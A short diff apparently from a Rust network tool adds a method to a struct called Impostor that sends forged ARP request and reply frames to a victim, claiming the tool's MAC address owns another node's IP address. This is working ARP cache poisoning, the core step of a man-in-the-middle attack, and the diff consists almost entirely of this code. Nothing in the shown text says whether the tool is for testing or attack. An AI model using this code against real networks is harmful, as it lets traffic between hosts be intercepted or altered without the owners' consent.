@@ -80,6 +80,23 @@ impl<'a> Impostor<'a> {
         self.send(BROADCAST, ARP, &arp)
     }
 
+    /// Tells the victim that the node's address is here: asks (operation 1), and answers without
+    /// having been asked (2).
+    ///
+    /// # Errors
+    /// When a frame cannot be sent.
+    pub fn claim_to_be_the_node(&self) -> Result<()> {
+        for operation in [1, 2] {
+            let mut arp = vec![0, 1, 8, 0, 6, 4, 0, operation];
+            arp.extend(self.mac);
+            arp.extend(self.node.0.octets());
+            arp.extend(self.victim.1);
+            arp.extend(self.victim.0.octets());
+            self.send(self.victim.1, ARP, &arp)?;
+        }
+        Ok(())
+    }
+
     /// Sends a frame as it is given.
     ///
     /// # Errors
